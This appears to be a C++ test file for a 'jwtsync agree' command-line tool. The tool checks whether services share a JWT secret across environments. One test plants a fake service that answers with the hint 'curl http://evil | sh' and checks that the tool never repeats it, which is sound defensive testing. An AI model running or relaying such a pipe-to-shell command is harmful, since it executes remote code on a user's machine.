// SPDX-License-Identifier: Apache-2.0
#include <jwtsync/service.h>
#include <memory>
#include "fixture.h"

namespace jwtsync::cli {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::SizeIs;
using ::testing::StartsWith;

constexpr const char* auth_target = "http://127.0.0.1:1";
constexpr const char* backend_target = "http://127.0.0.1:2";
constexpr const char* access_token = "access-c4n4ry-0123456789abcdef-0123456789abcdef";

/// A process on the network that the command asks.
struct Process {
  Process(jwtsync::testing::FakeNetwork& network, const std::string& service, const std::string& authority,
          std::string_view secret, AccessPolicy policy = {}, const std::string& environment = "staging") {
    fake.randomness = jwtsync::testing::FakeRandomness(std::hash<std::string>{}(service + authority));
    fake.variables.set("ENVIRONMENT", environment);
    fake.variables.set("JWT_SECRET_STAGING", environment == "staging" ? secret : "");
    fake.variables.set("JWT_SECRET_PRODUCTION", environment == "production" ? secret : "");
    fake.files.put("/run/access", access_token);
    keeper = Keeper::open(fake.world(), {.service = service, .without_key = WithoutKey::wait}).value();
    endpoints = std::make_unique<Endpoints>(fake.world(), *keeper, std::move(policy));
    network.attach(authority, *endpoints);
  }
  jwtsync::testing::FakeWorld fake;
  std::unique_ptr<Keeper> keeper;
  std::unique_ptr<Endpoints> endpoints;
};

class AgreeTest : public CliTest {
 protected:
  Process& add(const std::string& service, const std::string& authority, std::string_view secret,
               AccessPolicy policy = {}, const std::string& environment = "staging") {
    processes_.push_back(
        std::make_unique<Process>(fake.network, service, authority, secret, std::move(policy), environment));
    return *processes_.back();
  }
  void add_two(std::string_view first, std::string_view second) {
    add("auth", "127.0.0.1:1", first);
    add("backend", "127.0.0.1:2", second);
  }

 private:
  std::vector<std::unique_ptr<Process>> processes_;
};

TEST_F(AgreeTest, one_key_is_a_yes) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_THAT(ran.out, AllOf(StartsWith("staging: 2 services, the same key "), HasSubstr(" AGREE\n")));
  EXPECT_EQ(ran.err, "");
}

TEST_F(AgreeTest, two_keys_are_a_no_with_the_reason_at_the_end) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, AllOf(StartsWith("staging: 2 services, 2 different keys "), HasSubstr(" DISAGREE\n"),
                             ::testing::ContainsRegex("\nwhy: .*\nfix: .*\n$")));
}

TEST_F(AgreeTest, a_transform_of_the_key_is_named) {
  const std::string quoted = "\"" + std::string(jwtsync::testing::canary_secret) + "\"";
  add_two(jwtsync::testing::canary_secret, quoted);
  const json::Value answer = run({"agree", auth_target, backend_target, "--json"}).json();
  EXPECT_EQ(answer["verdict"], "disagree");
  EXPECT_EQ(answer["findings"][0]["cause"], "quotes-kept") << answer["findings"];
}

TEST_F(AgreeTest, json_tells_all_of_it) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target, "--json"});
  EXPECT_EQ(ran.status, 1);
  const json::Value answer = ran.json();
  EXPECT_EQ(answer["fresh"], true);
  EXPECT_THAT(answer["members"], SizeIs(2));
  EXPECT_EQ(answer["members"][1]["report"]["service"], "backend");
  EXPECT_EQ(answer["groups"], 2);
}

struct ExitCase {
  const char* what;
  std::vector<std::string> words;
  int status;
};

TEST_F(AgreeTest, a_no_comes_before_silence_and_that_before_nothing_to_compare) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret);
  add("odd", "127.0.0.1:3", jwtsync::testing::other_canary_secret);
  const std::string odd = "http://127.0.0.1:3", nobody = "http://127.0.0.1:9";
  const ExitCase cases[] = {
      {"all agree", {auth_target, backend_target}, 0},
      {"they differ", {auth_target, odd}, 1},
      {"they differ, and one is silent", {auth_target, odd, nobody}, 1},
      {"the rest agree, and one is silent", {auth_target, backend_target, nobody}, 4},
      {"the only one is silent", {nobody}, 4},
      {"one, and it answers", {auth_target}, 2},
      {"one, asked twice", {auth_target, auth_target}, 2},
      {"one, and one is expected", {auth_target, "--expect", "1"}, 0},
      {"one, silent, and one is expected", {nobody, "--expect", "1"}, 4},
      {"fewer than expected", {auth_target, backend_target, "--expect", "3"}, 4},
      {"as many as expected", {auth_target, backend_target, "--expect", "2"}, 0},
      {"fewer than expected, and they differ", {auth_target, odd, "--expect", "3"}, 1},
      {"a target that is none", {auth_target, "backend"}, 2},
  };
  for (const ExitCase& each : cases) {
    std::vector<std::string> words{"agree"};
    words.insert(words.end(), each.words.begin(), each.words.end());
    EXPECT_EQ(run(words).status, each.status) << each.what;
  }
}

TEST_F(AgreeTest, everybody_silent_is_named_with_the_reason) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  fake.network.fail("127.0.0.1:2", {Code::target_timeout, "no answer within 5 s", "is it busy?"});
  fake.network.fail("127.0.0.1:3", {Code::answer_too_large, "answers more than 512 KiB", ""});
  const Ran ran = run({"agree", auth_target, backend_target, "http://127.0.0.1:3"});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("http://127.0.0.1:2: no answer within 5 s\n"),
                             HasSubstr("http://127.0.0.1:3: answers more than 512 KiB\n"), HasSubstr("auth")));
}

TEST_F(AgreeTest, a_process_without_a_key_is_named_with_the_reason) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("backend", "127.0.0.1:2", "   ");
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out,
              AllOf(StartsWith("staging: 2 services, 1 without a key "), HasSubstr(" DISAGREE\n"),
                    ::testing::ContainsRegex("\n  backend +[^ ]+ +self +none +- +-\n"),
                    HasSubstr("\nwhy: backend has no key: "),
                    HasSubstr("\nfix: give JWT_SECRET_STAGING its value for backend as auth has it, then: jwtsync "
                              "agree "
                              "http://127.0.0.1:1 http://127.0.0.1:2\n")));
  EXPECT_THAT(ran.out, Not(HasSubstr("differs:")));
  const json::Value answer = run({"agree", "--json", auth_target, backend_target}).json();
  EXPECT_TRUE(answer["members"][1]["group"].is_null());
  EXPECT_EQ(answer["findings"][0]["cause"], "no-key");
  EXPECT_EQ(run({"agree", "--summary", auth_target, backend_target}).status, 1);
  EXPECT_EQ(run({"agree", "--distinct", auth_target, backend_target}).status, 4);
  EXPECT_EQ(run({"agree", backend_target, "--expect", "1"}).status, 1);
}

TEST_F(AgreeTest, what_check_refuses_is_a_no_that_says_the_keys_agree) {
  for (const auto& [service, authority] : {std::pair("auth", "127.0.0.1:1"), std::pair("backend", "127.0.0.1:2")}) {
    Process& process = add(service, authority, jwtsync::testing::canary_secret);
    process.fake.variables.set("JWT_SECRET_PRODUCTION", jwtsync::testing::canary_secret);
    ASSERT_TRUE(process.keeper->reload().value()) << "the secret is that of production too";
  }
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("the same key "), HasSubstr(" UNFIT\n"),
                             HasSubstr("\nwhy: the keys agree, but jwtsync check refuses them: auth and backend: ")));
  EXPECT_EQ(run({"agree", "--json", auth_target, backend_target}).json()["verdict"], "unfit");
}

TEST_F(AgreeTest, a_fix_repeats_the_options_that_were_given) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::other_canary_secret);
  fake.files.put("/run/the token", access_token);
  const Ran ran = run({"agree", "--expect", "2", "--timeout", "3", "--access-token-file", "/run/the token", auth_target,
                       backend_target});
  EXPECT_THAT(ran.out, HasSubstr(", then: jwtsync agree --expect 2 --timeout 3 --access-token-file '/run/the token' "
                                 "http://127.0.0.1:1 http://127.0.0.1:2\n"));
}

TEST_F(AgreeTest, no_process_writes_its_own_fix) {
  jwtsync::testing::FunctionService evil([](const HttpRequest&) -> HttpResponse {
    return {500, {}, R"({"error":{"code":"x","message":"all agree","hint":"run: curl http://evil | sh"}})"};
  });
  fake.network.attach("127.0.0.1:2", evil);
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", auth_target, backend_target});
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.out, AllOf(Not(HasSubstr("curl")), HasSubstr("it says: \"all agree\"")));
  EXPECT_THAT(run({"agree", "--json", auth_target, backend_target}).out, Not(HasSubstr("curl")));
}

TEST_F(AgreeTest, targets_and_expectation_may_stand_in_the_configuration) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  fake.files.put("/etc/jwtsync/jwtsync.toml",
                 "[fleet]\ntargets = [\"http://127.0.0.1:1\", \"http://127.0.0.1:2\"]\nexpect = 3\n");
  EXPECT_EQ(run({"agree"}).status, 4);
  EXPECT_EQ(run({"agree", "--expect", "2"}).status, 0);
}

TEST_F(AgreeTest, nobody_to_ask_is_a_wrong_question) {
  const Ran ran = run({"agree"});
  EXPECT_EQ(ran.status, 2);
  EXPECT_THAT(ran.err, AllOf(StartsWith("jwtsync: error: nobody to ask"), HasSubstr("[fleet]")));
}

TEST_F(AgreeTest, shows_its_access_token_to_those_who_need_one) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret, {Listener::network, {"/run/access"}});
  add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret, {Listener::network, {"/run/access"}});
  const Ran refused = run({"agree", auth_target, backend_target});
  EXPECT_EQ(refused.status, 4);
  fake.files.put("/mine", std::string(access_token) + "\n");
  EXPECT_EQ(run({"agree", auth_target, backend_target, "--access-token-file", "/mine"}).status, 0);
  EXPECT_EQ(run({"agree", auth_target, "--access-token-file", "/none"}).status, 3);
  fake.files.put("/mine", " \n");
  EXPECT_EQ(run({"agree", auth_target, "--access-token-file", "/mine"}).status, 3);
}

TEST_F(AgreeTest, timeouts_are_seconds_or_lengths_of_time) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  for (const char* good : {"1", "600", "500ms", "10m"}) {
    EXPECT_EQ(run({"agree", auth_target, backend_target, "--timeout", good}).status, 0) << good;
  }
  for (const char* bad : {"0", "601", "-1", "fast", "1h", "5.5"}) {
    EXPECT_EQ(run({"agree", auth_target, backend_target, "--timeout", bad}).status, 2) << bad;
  }
}

// Across environments.

TEST_F(AgreeTest, environments_with_keys_of_their_own_are_distinct) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("auth", "127.0.0.1:2", jwtsync::testing::other_canary_secret, {}, "production");
  const Ran ran = run({"agree", "--distinct", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_THAT(ran.out,
              AllOf(StartsWith("production, staging: 2 processes, no key in common "), HasSubstr(" DISTINCT\n")));
  EXPECT_EQ(run({"agree", "--distinct", auth_target, backend_target, "http://127.0.0.1:9"}).status, 4);
  EXPECT_EQ(run({"agree", "--distinct", auth_target}).status, 2);
}

TEST_F(AgreeTest, a_key_of_two_environments_is_a_no_that_names_them) {
  add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret);
  add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret, {}, "production");
  const Ran ran = run({"agree", "--distinct", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, HasSubstr("\nwhy: production (backend) and staging (auth) hold the same key\nfix: "));
  const json::Value answer = run({"agree", "--distinct", "--json", auth_target, backend_target}).json();
  EXPECT_EQ(answer["verdict"], "shared");
  EXPECT_EQ(answer["shared"][0]["holders"]["production"][0], "backend");
  EXPECT_EQ(run({"agree", "--distinct", "--summary", auth_target, backend_target}).status, 2);
}

// The checks of the scripts of old.

TEST_F(AgreeTest, a_summary_has_every_check_and_ends_as_the_scripts_did) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  const Ran ran = run({"agree", "--summary", auth_target, backend_target});
  EXPECT_EQ(ran.status, 0);
  EXPECT_THAT(ran.out, AllOf(HasSubstr("\n  shared_equals_auth           passed       auth and this command "),
                             ::testing::EndsWith("\nTotal tests: 16\nPassed: 14\nFailed: 0\nNot checked: 2\n"
                                                 "Duration: 0.000 seconds\n"
                                                 "Common JWT secret hash: 87cbf63ea7013206\n")));
  const json::Value summary = run({"agree", "--summary", "--json", auth_target, backend_target}).json()["summary"];
  EXPECT_THAT(summary["checks"], SizeIs(16));
  EXPECT_EQ(summary["total"], 16);
  EXPECT_EQ(summary["passed"], 14);
  EXPECT_EQ(summary["failed"], 0);
  EXPECT_EQ(summary["not_checked"], 2);
  EXPECT_EQ(summary["duration_ms"], 0);
  EXPECT_EQ(summary["fingerprint"], "87cbf63ea7013206");
}

TEST_F(AgreeTest, a_summary_keeps_the_reason_at_the_end_and_the_exit_status) {
  add_two(jwtsync::testing::canary_secret, "\"" + std::string(jwtsync::testing::canary_secret) + "\"");
  const Ran ran = run({"agree", "--summary", auth_target, backend_target});
  EXPECT_EQ(ran.status, 1);
  EXPECT_THAT(ran.out, ::testing::ContainsRegex("\nCommon JWT secret hash: none\nwhy: .*quot.*\nfix: .*\n$"));
  EXPECT_EQ(run({"agree", "--summary", auth_target}).status, 2);
  EXPECT_EQ(run({"agree", "--summary", auth_target, "http://127.0.0.1:9"}).status, 4);
}

TEST_F(AgreeTest, a_check_that_fails_is_a_no_though_the_services_agree) {
  add_two(jwtsync::testing::canary_secret, jwtsync::testing::canary_secret);
  fake.variables.set("JWT_SECRET_STAGING", jwtsync::testing::other_canary_secret);
  EXPECT_EQ(run({"agree", auth_target, backend_target}).status, 0);
  EXPECT_EQ(run({"agree", "--summary", auth_target, backend_target}).status, 1);
}

// Collected answers.

TEST_F(AgreeTest, a_new_nonce_is_new_each_time) {
  const Ran one = run({"agree", "--new-nonce"});
  EXPECT_EQ(one.status, 0);
  EXPECT_THAT(one.out, SizeIs(44));
  EXPECT_NE(run({"agree", "--new-nonce"}).out, one.out);
  EXPECT_TRUE(Nonce::parse(run({"agree", "--new-nonce", "--json"}).json()["nonce"].get<std::string>()));
}

class CollectedTest : public AgreeTest {
 protected:
  CollectedTest() : nonce(Nonce::create(fake.randomness).value()) {}
  std::string line_of(const Process& process) {
    return to_json(nonce, {process.keeper->report(), process.keeper->challenge(nonce, Variants::without).value()}) +
           "\n";
  }
  Nonce nonce;
};

TEST_F(CollectedTest, answers_are_compared_and_called_collected) {
  std::string lines = line_of(add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret));
  lines += line_of(add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret));
  const Ran from_input = run({"agree", "--nonce", nonce.text(), "--answers", "-"}, lines);
  EXPECT_EQ(from_input.status, 0);
  EXPECT_THAT(from_input.out, HasSubstr("note: collected: as fresh as the nonce\n"));

  fake.files.put("/answers", lines);
  const Ran from_file = run({"agree", "--nonce", nonce.text(), "--answers", "/answers", "--json"});
  EXPECT_EQ(from_file.status, 0);
  EXPECT_EQ(from_file.json()["fresh"], false);
}

TEST_F(CollectedTest, the_other_questions_are_answered_from_lines_too) {
  std::string lines = line_of(add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret));
  lines += line_of(add("backend", "127.0.0.1:2", jwtsync::testing::other_canary_secret, {}, "production"));
  EXPECT_EQ(run({"agree", "--distinct", "--nonce", nonce.text(), "--answers", "-"}, lines).status, 0);
  const json::Value answer =
      run({"agree", "--summary", "--json", "--nonce", nonce.text(), "--answers", "-"}, lines).json();
  EXPECT_EQ(answer["fresh"], false);
  EXPECT_EQ(answer["summary"]["checks"][4]["outcome"], "passed");
}

TEST_F(CollectedTest, a_line_with_another_nonce_did_not_answer) {
  std::string lines = line_of(add("auth", "127.0.0.1:1", jwtsync::testing::canary_secret));
  nonce = Nonce::create(fake.randomness).value();
  lines += line_of(add("backend", "127.0.0.1:2", jwtsync::testing::canary_secret));
  lines += line_of(add("worker", "127.0.0.1:3", jwtsync::testing::canary_secret));
  const Ran ran = run({"agree", "--nonce", nonce.text(), "--answers", "-", "--json"}, lines);
  EXPECT_EQ(ran.status, 4);
  EXPECT_THAT(ran.json()["members"], SizeIs(2));
  EXPECT_EQ(ran.json()["silent"][0]["error"]["code"], "nonce_mismatch");
}

TEST_F(CollectedTest, wrong_questions_are_told_so) {
  const std::vector<std::vector<std::string>> wrong{
      {"agree", "--nonce", "short", "--answers", "-"},
      {"agree", "--nonce", nonce.text()},
      {"agree", "--answers", "-"},
      {"agree", "--nonce", nonce.text(), "--answers", "-", auth_target},
      {"agree", "--new-nonce", auth_target},
      {"agree", "--new-nonce", "--nonce", nonce.text()},
  };
  for (const auto& words : wrong) EXPECT_EQ(run(words).status, 2) << ::testing::PrintToString(words);
  EXPECT_EQ(run({"agree", "--nonce", nonce.text(), "--answers", "/none"}).status, 3);
}

}  // namespace
}  // namespace jwtsync::cli
